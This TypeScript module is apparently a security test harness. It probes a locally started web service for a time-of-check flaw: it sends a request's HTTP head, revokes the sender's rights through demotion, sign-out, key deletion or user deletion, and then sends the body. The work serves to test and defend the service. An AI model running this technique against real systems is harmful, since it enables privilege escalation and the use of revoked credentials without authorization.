// Security 2: the head arrives while the client has the right, the body once it is withdrawn.
import { startAbused, type AbusedService } from './abused-service.ts';
import { ask, firstStatus, headOf, openSocket, type Sent } from './attack-client.ts';
import { sleep, type Row, type Target } from './attack.ts';

/** Long enough for the service to read the head. */
const pauseMilliseconds = 300;

type Late = {
  readonly service: AbusedService;
  readonly method: string;
  readonly path: string;
  readonly body: object;
  readonly sent: Sent;
  /** The change between head and body. */
  readonly between: () => Promise<unknown>;
};

export async function lateBodies(target: Target): Promise<Row[]> {
  const service = await startAbused(target);
  const rows = [
    await afterDemotion(target, service),
    await afterSignOut(target, service),
    await afterKeyRemoval(target, service),
    await afterDeletion(target, service),
  ];
  await service.stop();
  return rows;
}

async function afterDemotion({ people }: Target, service: AbusedService): Promise<Row> {
  const [person] = people.others;
  if (person === undefined) throw new Error('nobody is left');
  const path = `/api/users/${person.id}`;
  const setRole = (role: string) =>
    ask(service.port, 'PATCH', path, { token: people.admin.token, body: { role } });
  await setRole('admin');
  const status = await statusOfLate({
    service,
    method: 'PATCH',
    path,
    body: { role: 'admin' },
    sent: { token: person.token },
    between: () => setRole('user'),
  });
  const { body } = await ask(service.port, 'GET', path, { token: people.admin.token });
  await setRole('user');
  return {
    attack: '2 late body after demotion',
    done: 'an administrator is demoted between head and body of PATCH {"role": "admin"} on themself',
    achieved: `status ${status}, role afterwards: ${body.role}`,
  };
}

async function afterSignOut({ people }: Target, service: AbusedService): Promise<Row> {
  const person = people.others[1] ?? people.owner;
  const status = await statusOfLate({
    service,
    method: 'POST',
    path: '/api/keys',
    body: { name: 'late', scopes: ['orders:read'], expiresAt: null },
    sent: { token: person.token },
    between: () => ask(service.port, 'DELETE', `/api/sessions/${person.sessionId}`, { token: person.token }),
  });
  return {
    attack: '2 late body after sign-out',
    done: 'the session is ended between head and body of POST /api/keys',
    achieved: `status ${status}`,
  };
}

async function afterKeyRemoval({ people }: Target, service: AbusedService): Promise<Row> {
  const { token } = people.others[2] ?? people.owner;
  const wanted = { name: 'short-lived', scopes: ['customers:write'] };
  const made = await ask(service.port, 'POST', '/api/keys', { token, body: wanted });
  const status = await statusOfLate({
    service,
    method: 'POST',
    path: '/customers',
    body: { name: 'Made with a deleted key' },
    sent: { key: made.body.key },
    between: () => ask(service.port, 'DELETE', `/api/keys/${made.body.id}`, { token }),
  });
  return {
    attack: '2 late body after removal of the key',
    done: 'the key is deleted between head and body of POST /customers',
    achieved: `status ${status}`,
  };
}

async function afterDeletion({ people }: Target, service: AbusedService): Promise<Row> {
  const person = people.others[3] ?? people.owner;
  const path = `/api/users/${person.id}`;
  const late = (method: string, to: string, body: object, between: () => Promise<unknown>) =>
    statusOfLate({ service, method, path: to, body, sent: { token: person.token }, between });
  let second: Promise<number> | undefined;
  const first = await late('POST', '/customers', { name: 'Of a deleted user' }, async () => {
    second = late('PATCH', path, { name: 'Deleted' }, () => sleep(2 * pauseMilliseconds));
    await sleep(pauseMilliseconds);
    await ask(service.port, 'DELETE', path, { token: people.admin.token });
  });
  return {
    attack: '2 late body after deletion of the user',
    done: 'the user is deleted between head and body of POST /customers and of PATCH on themself',
    achieved: `statuses ${first} and ${await second}`,
  };
}

async function statusOfLate({ service, method, path, body, sent, between }: Late): Promise<number> {
  const socket = await openSocket(service.port);
  if (socket === undefined) return 0;
  const text = JSON.stringify(body);
  const status = firstStatus(socket, 5_000);
  socket.write(headOf(method, path, text, sent));
  await sleep(pauseMilliseconds);
  await between();
  socket.write(text);
  return await status.finally(() => socket.destroy());
}
